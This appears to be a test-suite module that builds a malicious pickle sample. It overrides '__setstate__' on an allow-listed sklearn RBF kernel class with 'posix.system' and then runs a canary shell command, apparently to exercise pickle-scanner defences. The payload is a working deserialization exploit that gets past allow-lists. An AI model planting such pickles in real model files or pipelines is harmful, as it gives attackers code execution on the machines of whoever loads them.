"""Slot state sets a method on an allowed class, for the whole process."""

from __future__ import annotations

from malicious_samples.recipes import shell
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    cls = Name("sklearn.gaussian_process.kernels", "RBF")
    p = Pickle().save(cls, (None, {"__setstate__": Name("posix", "system")})).build()
    return p.empty_tuple().newobj().save(shell(canary)).build().finish()
